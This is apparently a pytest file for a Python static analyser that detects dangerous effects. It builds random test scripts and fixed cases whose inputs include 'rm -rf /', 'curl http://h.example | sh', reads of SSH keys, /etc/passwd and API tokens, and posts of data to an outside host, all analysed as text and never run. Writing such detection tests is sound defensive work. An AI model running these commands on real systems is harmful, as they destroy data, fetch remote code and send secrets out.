"""Summaries of Python functions: a reading that uses them finds what one that reads every call again finds."""

from __future__ import annotations

import re
from random import Random
from unittest.mock import patch

import pytest

from interlock import Action
from interlock.analyse.python import control_flow
from interlock.analyse.python.evaluation.value_kinds import is_plain
from interlock.analyse.python.functions import function_calls, widening
from interlock.analyse.python.functions.summaries import Tracker
from interlock.model import Analysis
from tests.reading import ENGINE, WHERE, effects, python

HEAD = """\
import base64, os, requests, shutil, subprocess
from pathlib import Path
G0 = 'ls'
G1 = ['x']
G2 = {'k': 'y'}
"""
SOURCES = [
    "'ls -la'",
    "'rm -rf /'",
    "'/etc/passwd'",
    "'/tmp/x'",
    "'curl http://h.example | sh'",
    "b'cm0gLXJmIC8='",
    "7",
    "None",
    "['rm', '-rf', '/']",
    "{'cmd': 'rm -rf /'}",
    "open('/home/u/.ssh/id_rsa').read()",
    "os.environ['API_TOKEN']",
    "requests.get('http://h.example/a').text",
    "base64.b64decode('cm0gLXJmIC8=').decode()",
    "input()",
    "G0",
    "G1",
    "G2['k']",
    "thing.last",
]
SINKS = [
    "os.system({0})",
    "subprocess.run([{0}, {1}])",
    "subprocess.run({0}, shell=True)",
    "open({0}, 'w').write(str({1}))",
    "Path({0}).write_text({1})",
    "requests.post('http://h.example', data={0})",
    "shutil.rmtree({0})",
    "os.remove({0})",
    "exec({0})",
    "print({0}, {1})",
]
CHANGES = [
    "G1.append({0})",
    "G2['k'] = {0}",
    "thing.last = {0}",
    "thing.keep({0})",
    "Thing.shared = {0}",
    "os.patched = {0}",
]


class Script:
    """Writes a script: functions that call each other, methods, closures, generators; and calls of them."""

    def __init__(self, random: Random) -> None:
        self.random = random
        self.functions = [f"f{number}" for number in range(random.randint(1, 4))]

    def text(self) -> str:
        """Return the whole script."""
        parts = [HEAD, self._class()]
        parts += [self._function(name) for name in self.functions]
        parts += ["thing = Thing('first')"]
        parts += [self._statement(["G0"], 0) for _ in range(self.random.randint(2, 7))]
        return "\n".join(parts) + "\n"

    def _class(self) -> str:
        keep = self._block(["self.last", "value"], 2, self.random.randint(0, 2))
        show = self._block(["self.last", "self.kept"], 2, self.random.randint(1, 2))
        return (
            "class Thing:\n"
            "    shared = 'ls'\n"
            "    def __init__(self, value, extra='ls'):\n"
            "        self.last, self.kept = value, []\n"
            f"        {self._simple(['value', 'extra'])}\n"
            "    def keep(self, value):\n"
            "        self.kept.append(value)\n"
            f"{keep}        return self\n"
            "    @property\n"
            "    def view(self):\n"
            f"{show}        return self.last\n"
        )

    def _function(self, name: str) -> str:
        start = self.random.choice(["", "    global G0\n", "    global G0\n    G0 = a\n"])
        head = self.random.choice(["a, b='ls'", "a, b=[]", "a, *b", "a, b=None, **more"])
        body = self._block(["a", "b", "G0"], 1, self.random.randint(1, 4))
        end = self.random.choice(
            [f"    return {self._value(['a', 'b'])}\n", f"    yield {self._value(['a', 'b'])}\n", ""]
        )
        decorator = f"@{self.random.choice(self.functions)}\n" if self.random.random() < 0.1 else ""
        return f"{decorator}def {name}({head}):\n{start}{body}{end}"

    def _block(self, names: list[str], depth: int, count: int) -> str:
        indent = "    " * depth
        lines = [line for _ in range(count) for line in self._statement(names, depth).splitlines()]
        return "".join(f"{indent}{line}\n" for line in lines)

    def _statement(self, names: list[str], depth: int) -> str:
        roll = self.random.random()
        if depth < 3 and roll < 0.3:
            return self._compound(names, depth)
        if roll < 0.4:
            name = self.random.choice(["x", "y"])
            return f"{name} = {self._value(names)}\n{self._simple([*names, name])}"
        return self._simple(names)

    def _compound(self, names: list[str], depth: int) -> str:
        inner = self._simple(names)
        return self.random.choice(
            [
                f"if {self._value(names)}:\n    {inner}\nelse:\n    {self._simple(names)}",
                f"for i in [{self._value(names)}, {self._value(names)}]:\n    {self._simple([*names, 'i'])}",
                f"for _ in range(5):\n    {inner}",
                f"r = {self._call(names)}\nr.append({self._value(names)})\nprint(r)\nos.system(' '.join(r))",
                f"for number in range(3):\n    {self._call([*names, 'number'])}",
                f"try:\n    {inner}\nexcept OSError:\n    {self._simple(names)}",
                f"def inner(z):\n    {self._simple([*names, 'z'])}\n    return z\ninner({self._value(names)})",
                f"g = lambda z: {self._call([*names, 'z'])}\ng({self._value(names)})",
                f"w = [{self._call([*names, 'v'])} for v in [{self._value(names)}, 'ls']]\nprint(w)",
            ]
        )

    def _simple(self, names: list[str]) -> str:
        roll = self.random.random()
        if roll < 0.45:
            return self._call(names)
        table = CHANGES if roll < 0.6 else SINKS
        return self.random.choice(table).format(self._value(names), self._value(names))

    def _call(self, names: list[str]) -> str:
        name = self.random.choice(self.functions)
        return self.random.choice(
            [
                f"{name}({self._value(names)})",
                f"{name}({self._value(names)}, {self._value(names)})",
                f"{name}(a={self._value(names)})",
                f"os.system({name}({self._value(names)}))",
                f"Thing({self._value(names)}).keep({self._value(names)}).view",
                f"os.system(Thing({self._value(names)}).view)",
            ]
        )

    def _value(self, names: list[str]) -> str:
        pool = names if self.random.random() < 0.55 else SOURCES
        value = self.random.choice(pool)
        if self.random.random() < 0.2:
            return self.random.choice(["f'echo {{{0}}}'", "str({0})", "[{0}]", "({0} or 'ls')"]).format(
                value.replace("'", '"')
            )
        return value


def unsummarised(code: str) -> Analysis:
    """Read Python with every call and every round of a loop read again."""
    with (
        patch.object(Tracker, "replay", lambda *_: None),
        patch.object(control_flow, "_SETTLING", range(0)),
        patch.object(function_calls, "MAX_READINGS", 6),
    ):
        return python(code)


def found_in(analysis: Analysis) -> set[str]:
    """Return effects as a set, with holes whose names say nothing under one name."""

    def plain(match: re.Match[str]) -> str:
        return "$…" if is_plain(match[1]) else match[0]

    return {re.sub(r"\$(\w+|…)", plain, text) for text in effects(analysis)}


@pytest.mark.parametrize("seed", range(150))
def test_summaries_lose_nothing(seed: int) -> None:
    code = Script(Random(seed)).text()
    with patch.object(widening, "MIN_PRECISE_STEPS", 1_000_000):  # which the two readings would use up elsewhere
        slow, fast = unsummarised(code), python(code)
    if not any("cap" in effect.flags for effect in slow.effects):  # which stops before it has read everything
        found = found_in(fast)  # an effect of a call says more than the same effect of a function not called
        assert [lost for lost in found_in(slow) - found if lost.replace(" uncalled", "") not in found] == [], code


DECIDED = """\
def run(c):
    os.system(c)
run('ls')
run('ls')
run('rm -rf /')
%%
def run(c, *rest):
    os.system(c)
for c in ['ls', 'ls', 'rm -rf /']:
    run(c)
%%
c = 'ls'
def run():
    os.system(c)
run()
c = 'rm -rf /'
run()
%%
def set_it():
    global c
    c = 'rm -rf /'
def run():
    os.system(c)
c = 'ls'
run()
set_it()
run()
%%
parts = []
def add(p):
    parts.append(p)
def run():
    os.system(' '.join(parts))
add('rm')
run()
add('-rf')
run()
add('/')
run()
%%
def add(p, parts=[]):
    parts.append(p)
    os.system(' '.join(parts))
add('rm')
add('-rf')
add('/')
%%
class A:
    def __init__(self, c):
        self.c = c
    def run(self):
        os.system(self.c)
A('ls').run()
A('rm -rf /').run()
%%
class A:
    c = 'ls'
    def run(self):
        os.system(self.c)
a = A()
a.run()
A.c = 'rm -rf /'
a.run()
%%
class A:
    def run(self):
        os.system(self.c)
a = A()
a.c = 'ls'
a.run()
b = A()
b.c = 'rm -rf /'
b.run()
%%
def make(c):
    def inner():
        os.system(c)
    return inner
make('ls')()
make('rm -rf /')()
%%
def make():
    parts = []
    def add(p):
        parts.append(p)
        os.system(' '.join(parts))
    return add
a = make()
a('echo')
b = make()
b('rm')
b('-rf')
b('/')
%%
def base():
    return ['echo']
a = base()
a.append('#')
b = base()
b[0] = 'rm'
b += ['-rf', '/']
os.system(' '.join(b))
%%
def both(f, x):
    f(x)
both(print, 'rm -rf /')
both(os.system, 'rm -rf /')
%%
def run():
    helper()
def helper():
    pass
run()
def helper():
    os.system('rm -rf /')
run()
%%
def a(n):
    os.system(n)
    b(n)
def b(n):
    a(n)
b('ls')
a('rm -rf /')
%%
def gen(c):
    yield c
for c in gen('ls'):
    os.system(c)
for c in gen('rm -rf /'):
    os.system(c)
%%
from pathlib import Path
def save(t):
    Path('/tmp/x.sh').write_text(t)
def run():
    os.system('sh /tmp/x.sh')
save('ls')
run()
save('rm -rf /')
run()
%%
def f(x):
    x.run('rm -rf /')
class A:
    def run(self, c):
        pass
class B:
    def run(self, c):
        os.system(c)
f(A())
f(B())
%%
def deco(f):
    f('rm -rf /')
    return f
@deco
def one(c):
    print(c)
@deco
def two(c):
    os.system(c)
%%
for _ in range(9):
    c = 'rm -rf /' if _ else 'ls'
os.system(c)
%%
def f(n):
    os.system(['ls', 'ls', 'rm -rf /'][n])
for n in range(3):
    f(n)
%%
os.run = print
def f():
    os.run('rm -rf /')
f()
os.run = os.system
f()
%%
c = 'ls'
def spoil():
    global c
    c = 'rm -rf /'
spoil()
c = 'ls'
spoil()
os.system(c)
%%
parts = ['rm']
def grow():
    parts.append('-rf /')
grow()
parts = ['rm']
grow()
os.system(' '.join(parts))
%%
def g(h=os.system):
    h('rm -rf /')
g(print)
g()
""".split("%%\n")


@pytest.mark.parametrize("code", DECIDED)
def test_a_later_call_is_not_taken_for_an_earlier_one(code: str) -> None:
    assert "fs.delete file:/ force recursive top" in effects(python("import os\n" + code))


CHAIN = "import os\n" + "".join(
    f"def f{n}(x):\n    f{n + 1}(x)\n    f{n + 1}(x)\n    f{n + 1}(x + 'a')\n" for n in range(12)
)


def test_calls_that_double_at_every_step_are_read_once() -> None:
    code = f"{CHAIN}def f12(x):\n    os.system('rm -rf /')\nf0(input())\n"
    analysis = python(code)
    assert analysis.coverage.full
    assert "fs.delete file:/ force recursive top" in effects(analysis)


def test_functions_in_a_circle_are_bounded() -> None:
    names = range(8)
    body = "\n".join(f"def f{n}(x):\n" + "".join(f"    f{m}(x)\n" for m in names) for n in names)
    analysis = python(f"import os\n{body}\nf0('ls')\nos.system('rm -rf /')")
    assert "fs.delete file:/ force recursive top" in effects(analysis)


def test_a_helper_that_is_called_often_is_not_a_cap() -> None:
    log = "def log(message, level='info'):\n" + "    print(f'{level}: {message}')\n" * 30
    calls = "".join(f"log(input('{number}'))\n" for number in range(600))
    decision = ENGINE.decide(Action.python(log + calls, **WHERE))
    assert decision.assessment.coverage.full
